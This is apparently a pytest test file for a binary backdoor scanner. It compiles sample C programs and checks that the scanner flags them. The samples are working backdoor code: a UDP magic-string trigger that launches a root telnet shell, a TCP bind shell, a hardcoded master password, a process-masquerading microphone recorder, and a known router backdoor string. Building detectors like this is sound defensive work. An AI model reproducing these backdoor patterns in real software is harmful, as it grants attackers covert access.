"""The scan engine on real executables compiled here for several architectures."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from doorwatch.scan import ScanOptions, analyse_file, load_rules, scan_paths

COMPILERS = {
    "x86-64": "gcc",
    "arm": "arm-linux-gnueabi-gcc",
    "mips": "mips-linux-gnu-gcc",
    "mipsel": "mipsel-linux-gnu-gcc",
    "aarch64": "aarch64-linux-gnu-gcc",
}
HEADER = """
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/ioctl.h>
#include <netinet/in.h>
"""
PROGRAMS = {
    # A UDP service: one odd string in the datagram runs a root shell service.
    "udp_trigger": HEADER + r"""
int main(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(40123);
    bind(s, (struct sockaddr *)&a, sizeof a);
    for (;;) {
        char buf[512]; struct sockaddr_in from; socklen_t len = sizeof from;
        int n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&from, &len);
        if (n <= 0) continue;
        buf[n] = 0;
        if (strncmp(buf, "qZ7!vortex_4411", 15) == 0)
            system("/usr/sbin/telnetd -p 2323 -l /bin/sh");
        sendto(s, "ack", 3, 0, (struct sockaddr *)&from, len);
    }
}
""",
    # A TCP service: a 32-bit magic in the header opens a shell on the connection.
    "tcp_int_trigger": HEADER + r"""
static void serve(int c) {
    unsigned int head[4];
    if (recv(c, head, sizeof head, MSG_WAITALL) != sizeof head) return;
    if (head[1] == 0x9E3D51A7u) { dup2(c, 0); dup2(c, 1); dup2(c, 2); execl("/bin/sh", "sh", (char *)0); }
    send(c, "no", 2, 0);
}
int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(40124);
    bind(s, (struct sockaddr *)&a, sizeof a); listen(s, 4);
    for (;;) { int c = accept(s, 0, 0); serve(c); close(c); }
}
""",
    # A benign verb dispatcher: many short protocol words, ordinary handlers, no shell.
    "verb_server": HEADER + r"""
static const char *answer(const char *verb) {
    if (strcmp(verb, "GET") == 0) return "200 value";
    if (strcmp(verb, "PUT") == 0) return "201 stored";
    if (strcmp(verb, "POST") == 0) return "202 queued";
    if (strcmp(verb, "DELETE") == 0) return "204 gone";
    if (strcmp(verb, "HEAD") == 0) return "200";
    if (strcmp(verb, "OPTIONS") == 0) return "200 GET PUT POST DELETE";
    return "400 bad verb";
}
int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(40125);
    bind(s, (struct sockaddr *)&a, sizeof a); listen(s, 4);
    for (;;) {
        char buf[64]; int c = accept(s, 0, 0);
        int n = recv(c, buf, sizeof buf - 1, 0);
        if (n > 0) { buf[n] = 0; buf[strcspn(buf, " \r\n")] = 0; const char *r = answer(buf); send(c, r, strlen(r), 0); }
        close(c);
    }
}
""",
    # Camera through V4L2 ioctls (encoded per architecture) and a packet socket with a BPF filter.
    "spy_tool": HEADER + r"""
#include <linux/videodev2.h>
#include <linux/filter.h>
#include <fcntl.h>
int main(int argc, char **argv) {
    int fd = open(argc > 1 ? argv[1] : "/dev/video0", O_RDWR);
    struct v4l2_capability cap; int type = V4L2_BUF_TYPE_VIDEO_CAPTURE;
    ioctl(fd, VIDIOC_QUERYCAP, &cap);
    ioctl(fd, VIDIOC_STREAMON, &type);
    int p = socket(17, SOCK_RAW, htons(3));
    struct sock_filter code[1] = {{0x6, 0, 0, 0xffff}};
    struct sock_fprog prog = {1, code};
    setsockopt(p, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof prog);
    return 0;
}
""",
    # Kernel-thread disguise and microphone capture through ALSA (linked against nothing: imports only).
    "disguised_recorder": HEADER + r"""
#include <sys/prctl.h>
int snd_pcm_open(void **pcm, const char *name, int stream, int mode);
long snd_pcm_readi(void *pcm, void *buffer, unsigned long frames);
int main(int argc, char **argv) {
    void *pcm; char buf[4096];
    prctl(PR_SET_NAME, "[kworker/0:2]", 0, 0, 0);
    strcpy(argv[0], "[kworker/0:2]");
    snd_pcm_open(&pcm, "default", 1, 0);
    snd_pcm_readi(pcm, buf, 1024);
    return 0;
}
""",
    # Login with a password file, plus one constant accepted beside it.
    "console_login": HEADER + r"""
static int stored_ok(const char *user, const char *pass) {
    char line[256], name[64], secret[128]; int ok = 0;
    FILE *db = fopen("/etc/app/users", "r");
    while (db && fgets(line, sizeof line, db))
        if (sscanf(line, "%63[^:]:%127s", name, secret) == 2 && strcmp(name, user) == 0) ok = strcmp(secret, pass) == 0;
    if (db) fclose(db);
    return ok;
}
__attribute__((noinline)) static int login(const char *user, const char *pass) {
    if (strcmp(pass, "Tr0ub4dor&3x") == 0) return 1;
    return stored_ok(user, pass);
}
int main(void) {
    char user[64], pass[64];
    printf("login: "); if (!fgets(user, sizeof user, stdin)) return 1;
    printf("password: "); if (!fgets(pass, sizeof pass, stdin)) return 1;
    user[strcspn(user, "\n")] = 0; pass[strcspn(pass, "\n")] = 0;
    if (login(user, pass)) execl("/bin/sh", "sh", (char *)0);
    return 1;
}
""",
}
LINK_ANYTHING = ["-Wl,--unresolved-symbols=ignore-all"]


@pytest.fixture(scope="session")
def builds(tmp_path_factory) -> dict[tuple[str, str], Path]:
    """Every program for every architecture whose compiler is installed, compiled once."""
    directory = tmp_path_factory.mktemp("scan-builds")
    built = {}
    for arch, compiler in COMPILERS.items():
        if shutil.which(compiler) is None:
            continue
        for name, source in PROGRAMS.items():
            src = directory / f"{name}.c"
            src.write_text(source)
            out = directory / f"{name}.{arch}"
            subprocess.run([compiler, "-O2", "-o", str(out), str(src), *LINK_ANYTHING], check=True, capture_output=True)
            built[(name, arch)] = out
    return built


@pytest.fixture(scope="session")
def rules():
    return load_rules()


def _scan(path: Path, rules):
    return analyse_file(path, path.name, rules).target


def _severe(target, finding_id: str) -> list:
    return [f for f in target.findings if f.id == finding_id and f.severity in ("high", "critical")]


ARCHES = list(COMPILERS)


@pytest.mark.parametrize("arch", ARCHES)
def test_string_trigger_is_critical_with_its_constant(builds, rules, arch):
    if ("udp_trigger", arch) not in builds:
        pytest.skip(f"no compiler for {arch}")
    target = _scan(builds[("udp_trigger", arch)], rules)
    findings = _severe(target, "magic-value-trigger")
    assert findings and findings[0].severity == "critical", [f.title for f in target.findings]
    values = [e.value for e in findings[0].evidence]
    assert any("qZ7!vortex_4411" in v for v in values)
    assert any("telnetd" in v for v in values)  # what the trigger gates
    assert any(e.kind == "input" and e.value == "recvfrom" for e in findings[0].evidence)


@pytest.mark.parametrize("arch", ARCHES)
def test_integer_trigger_gating_a_shell(builds, rules, arch):
    if ("tcp_int_trigger", arch) not in builds:
        pytest.skip(f"no compiler for {arch}")
    target = _scan(builds[("tcp_int_trigger", arch)], rules)
    findings = _severe(target, "magic-value-trigger")
    assert findings, [f.title for f in target.findings]
    assert any("0x9e3d51a7" in e.value for f in findings for e in f.evidence)
    assert {"network-listen", "bind-shell"} <= {c.id for c in target.capabilities}


@pytest.mark.parametrize("arch", ARCHES)
def test_verb_dispatcher_is_not_high(builds, rules, arch):
    if ("verb_server", arch) not in builds:
        pytest.skip(f"no compiler for {arch}")
    target = _scan(builds[("verb_server", arch)], rules)
    assert not [f for f in target.findings if f.severity in ("high", "critical")]
    assert "network-listen" in {c.id for c in target.capabilities}


@pytest.mark.parametrize("arch", ARCHES)
def test_camera_packet_socket_and_filter_per_architecture(builds, rules, arch):
    if ("spy_tool", arch) not in builds:
        pytest.skip(f"no compiler for {arch}")
    target = _scan(builds[("spy_tool", arch)], rules)
    caps = {c.id: c for c in target.capabilities}
    assert {"camera", "packet-socket", "bpf-filter", "raw-socket"} <= set(caps), caps.keys()
    assert any(e.kind == "ioctl" and "VIDIOC_STREAMON" in e.value for e in caps["camera"].evidence)
    assert target.arch == arch


def test_microphone_and_masquerade(tmp_path, rules):
    stub = tmp_path / "alsa.c"
    stub.write_text("int snd_pcm_open(void **p, const char *n, int s, int m) { return 0; }\n"
                    "long snd_pcm_readi(void *p, void *b, unsigned long f) { return 0; }\n")
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libasound.so.2", "-o", str(tmp_path / "libasound.so.2"), str(stub)],
                   check=True)
    source = tmp_path / "recorder.c"
    source.write_text(PROGRAMS["disguised_recorder"])
    program = tmp_path / "recorder"
    subprocess.run(["gcc", "-O2", "-o", str(program), str(source), str(tmp_path / "libasound.so.2")], check=True)
    target = _scan(program, rules)
    caps = {c.id: c for c in target.capabilities}
    assert "microphone" in caps and "process-masquerade" in caps
    assert any(e.kind == "call" and "prctl" in e.value for e in caps["process-masquerade"].evidence)
    assert any("kworker" in e.value for e in caps["process-masquerade"].evidence)


@pytest.mark.parametrize("arch", ["x86-64", "arm", "mips"])
def test_hardcoded_password_beside_a_password_file(builds, rules, arch):
    target = _scan(builds[("console_login", arch)], rules)
    findings = _severe(target, "hardcoded-credential")
    assert findings and any("Tr0ub4dor&3x" in e.value for f in findings for e in f.evidence), [f.title for f in target.findings]


def test_documented_backdoor_signature(tmp_path, rules):
    sample = tmp_path / "webs"
    sample.write_bytes(b"\x7fELF" + b"\0" * 60 + b"User-Agent: xmlset_roodkcableoj28840ybtide\0")
    target = _scan(sample, rules)
    assert any(f.id == "known-backdoor" and f.severity == "critical" for f in target.findings)
    assert target.errors  # the truncated ELF is reported, not a crash


def test_malformed_and_empty_files_are_errors_not_crashes(tmp_path, builds, rules):
    good = builds[("udp_trigger", "x86-64")].read_bytes()
    cases = {"truncated": good[:200], "header-only": good[:64], "empty-elf": b"\x7fELF", "mz": b"MZ" + b"\xff" * 100}
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        target = _scan(path, rules)
        assert target.type in ("elf", "pe")
        assert target.sha256
        assert target.errors, f"{name}: an incomplete file must say it could not be analysed whole"
    whole = tmp_path / "whole"
    whole.write_bytes(good)
    assert _scan(whole, rules).errors == []


def test_program_gains_capabilities_of_a_linked_library(tmp_path):
    lib_src = tmp_path / "libgrab.c"
    lib_src.write_text(HEADER + "#include <linux/videodev2.h>\n"
                       "int grab(int fd) { int t = 1; return ioctl(fd, VIDIOC_STREAMON, &t) + ioctl(fd, VIDIOC_DQBUF, 0); }\n")
    app_src = tmp_path / "app.c"
    app_src.write_text("int grab(int fd);\nint main(void) { return grab(3); }\n")
    tree = tmp_path / "tree"
    tree.mkdir()
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", "-Wl,-soname,libgrab.so.1", "-o", str(tree / "libgrab.so.1"), str(lib_src)],
                   check=True)
    subprocess.run(["gcc", "-O2", "-o", str(tree / "viewer"), str(app_src), str(tree / "libgrab.so.1")], check=True)
    report = scan_paths([tree], ScanOptions(jobs=1, use_cache=False, system_libraries=False))
    viewer = next(t for t in report.targets if t.path.endswith("viewer"))
    camera = next(c for c in viewer.capabilities if c.id == "camera")
    assert camera.evidence[0].kind == "library" and camera.evidence[0].value == "libgrab.so.1"


def test_archive_children_are_scanned_inside(tmp_path, builds):
    import tarfile

    image = tmp_path / "image.tar.gz"
    with tarfile.open(image, "w:gz") as tar:
        tar.add(builds[("udp_trigger", "x86-64")], arcname="usr/sbin/updated")
        tar.add(builds[("verb_server", "x86-64")], arcname="usr/bin/kv")
    report = scan_paths([image], ScanOptions(jobs=1, use_cache=False))
    top = report.targets[0]
    assert top.type in ("archive", "firmware") and top.children
    inner = {child.path.lstrip("/"): child for child in top.children}
    assert _severe(inner["usr/sbin/updated"], "magic-value-trigger")
    assert not [f for f in inner["usr/bin/kv"].findings if f.severity in ("high", "critical")]
